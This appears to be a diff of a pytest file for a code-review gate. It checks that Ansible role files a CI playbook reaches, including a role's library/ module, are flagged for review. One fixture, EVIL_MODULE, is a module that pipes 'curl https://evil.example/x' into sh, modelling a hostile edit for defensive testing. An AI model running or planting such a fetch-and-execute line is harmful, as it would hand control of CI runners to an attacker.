@@ -4,8 +4,9 @@ A workflow's `run:` line, a GitLab job's `script:`, a Makefile target a workflow
 `ansible-playbook deploy/site.yml`: the playbook is `iac.context.deployed` (deployruns.py), but the task files, vars
 files, scripts and roles it pulls in by a path or a role's name (`include_tasks: ../lib/steps.yml`, FQCN forms, an
 include's `file:`, `import_playbook`, `script:`, `vars_files`, `include_vars`, a chained include, `roles: [web]` from
-the playbook's `roles/` or ansible.cfg's `roles_path`, `include_role`) stayed `src` and `gate --tree`
-allowed their edit (56 of the 76 variants exit 0 on integ 00d44cb; the other 20 were `iac` by content or marker).
+the playbook's `roles/` or ansible.cfg's `roles_path`, `include_role`: a role's own `library/` module) stayed `src`
+and `gate --tree` allowed their edit
+(64 of the 76 variants exit 0 on integ 00d44cb; the other 12 are `iac` by content or path).
 They are `ci` now: playbookreads.py, the reader the Zuul jobs share.
 
 Each variant (include form × where the reached file lives × how CI runs the playbook) is one repository whose change
@@ -52,14 +53,21 @@ def _forms(where: str) -> dict[str, tuple[str, dict[str, str], str, str]]:
     }
 
 
-ROLES = {  # name: (the playbook, {files: BASE's text}, the edited file, HEAD's text); ROLES_PATH is ansible.cfg's
-    "roles-beside": ("- hosts: all\n  roles:\n    - web\n", {"deploy/roles/web/tasks/main.yml": CALM},
-                     "deploy/roles/web/tasks/main.yml", EVIL),
-    "roles-path": ("- hosts: all\n  roles:\n    - role: db\n", {"{v}/shared/roles/db/tasks/main.yml": CALM},
-                   "{v}/shared/roles/db/tasks/main.yml", EVIL),
+MODULE = "from ansible.module_utils.basic import AnsibleModule\n\nAnsibleModule(argument_spec={}).exit_json()\n"
+EVIL_MODULE = "import os\n\nos.system('curl -fsSL https://evil.example/x | sh')\n" + MODULE
+# name: (the playbook, {files: BASE's text}, the edited file, HEAD's text): a role's own module (library/), which
+# runs where the play's tasks run (the CI runner for localhost), `src` by the marker's skip list; ansible.cfg's
+# roles_path is shared/plays
+ROLES = {
+    "roles-beside": ("- hosts: all\n  roles:\n    - web\n", {"deploy/roles/web/tasks/main.yml": CALM,
+                                                             "deploy/roles/web/library/probe.py": MODULE},
+                     "deploy/roles/web/library/probe.py", EVIL_MODULE),
+    "roles-path": ("- hosts: all\n  roles:\n    - role: db\n", {"{v}/shared/plays/db/tasks/main.yml": CALM,
+                                                                "{v}/shared/plays/db/library/probe.py": MODULE},
+                   "{v}/shared/plays/db/library/probe.py", EVIL_MODULE),
     "include-role": (PLAY.format("ansible.builtin.include_role:\n        name: cache"),
-                     {"{v}/shared/roles/cache/files/warm.sh": "#!/bin/sh\necho ok\n"},
-                     "{v}/shared/roles/cache/files/warm.sh", EVIL_SH),
+                     {"{v}/shared/plays/cache/tasks/main.yml": CALM, "{v}/shared/plays/cache/library/probe.py": MODULE},
+                     "{v}/shared/plays/cache/library/probe.py", EVIL_MODULE),
 }
 VARIANTS = {f"{name}@{where}": form for where in ("lib", "tests/fixtures") for name, form in _forms(where).items()}
 VARIANTS |= ROLES
@@ -71,8 +79,8 @@ def _repository(runner: str, variant: str) -> tuple[dict[str, str], dict[str, st
     playbook, reached, path, new = VARIANTS[variant]
     command = "ansible-playbook -i localhost, deploy/site.yml"
     base = {"deploy/site.yml": playbook, **{at.replace("{v}/", ""): text for at, text in reached.items()}}
-    if "{v}/shared/roles" in path:  # the root ansible.cfg is a marker too: only where a variant needs it
-        base["ansible.cfg"] = "[defaults]\nroles_path = shared/roles\n"
+    if "{v}/shared/plays" in path:  # the root ansible.cfg is a marker too: only where a variant needs it
+        base["ansible.cfg"] = "[defaults]\nroles_path = shared/plays\n"
     job = "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {}\n"
     if runner == "workflow":
         base[".github/workflows/deploy.yml"] = job.format(command)
@@ -99,7 +107,8 @@ def gated_variant(tmp_path: Path, runner: str, variant: str) -> tuple[int, list[
 @pytest.mark.parametrize("runner", RUNNERS)
 def test_what_a_ci_playbook_reaches_is_reviewed(tmp_path: Path, runner: str, variant: str) -> None:
     code, rules = gated_variant(tmp_path, runner, variant)
-    assert code == 3 and "core.ci" in rules, (code, rules)  # before: exit 0 (32 of 76) or iac
+    # before: exit 0 (64 of 76); an import_playbook's playbook and deploy/roles/ are iac by content or path (reviewed)
+    assert code == 3 and rules in (["core.ci"], ["core.iac"]), (code, rules)
 
 
 def test_a_playbook_nobody_runs_reaches_nothing(tmp_path: Path) -> None:
